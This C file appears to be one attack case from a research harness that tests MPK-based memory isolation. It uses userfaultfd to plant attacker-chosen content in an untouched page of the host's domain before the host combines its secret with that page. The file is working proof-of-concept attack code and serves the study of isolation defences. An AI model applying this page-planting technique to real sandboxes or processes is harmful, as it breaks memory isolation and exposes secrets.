/* B9: userfaultfd fills a page of the domain that nobody has touched yet. The host
 * takes it for zero, as the kernel gives pages, and adds its secret to it.
 *
 * Source: own trials; [ioctl_userfaultfd(2)].
 */
#include <fcntl.h>
#include <linux/userfaultfd.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>
#include <unistd.h>
#include "attack.h"
#include "mpk.h"
#include "naive.h"
#include "policy.h"

/* More than a huge page, which the host's first touch nearby would bring in whole. */
#define UNTOUCHED_BYTES (8 << 20)

static unsigned char *untouched; /* where foreign code knows that the host will go on */

static void reserve(void) {
    untouched = target.undefended ? naive_new_page() : mpk_heap_calloc(mpk_host(NULL), UNTOUCHED_BYTES, PAGE_BYTES);
    if (!untouched) trouble("no memory in the domain");
    if (!target.undefended) untouched += UNTOUCHED_BYTES / 2;
}

static void plant(void) {
    static _Alignas(PAGE_BYTES) unsigned char planted[PAGE_BYTES] = "planted by userfaultfd";
    struct uffdio_api api = {.api = UFFD_API};
    struct uffdio_register place = {.range = {(uintptr_t)untouched, PAGE_BYTES}, .mode = UFFDIO_REGISTER_MODE_MISSING};
    struct uffdio_copy copy = {.dst = (uintptr_t)untouched, .src = (uintptr_t)planted, .len = PAGE_BYTES};
    int fd = (int)TRY("userfaultfd", syscall(SYS_userfaultfd, O_CLOEXEC | UFFD_USER_MODE_ONLY));
    TRY("UFFDIO_API", ioctl(fd, UFFDIO_API, &api));
    TRY("UFFDIO_REGISTER", ioctl(fd, UFFDIO_REGISTER, &place));
    int result = ioctl(fd, UFFDIO_COPY, &copy), error = errno;
    close(fd); /* or the host would wait for us at every page not there yet */
    errno = error;
    TRY("UFFDIO_COPY", result);
}

static void use_untouched(void) {
    for (int i = 0; i < SECRET_BYTES; i++) untouched[i] ^= target.secret[i];
    target.secret = untouched;
}

const struct attack attacks[] = {
    {.variant = "copy", .while_open = reserve, .attack = plant, .host = use_untouched},
    {0},
};
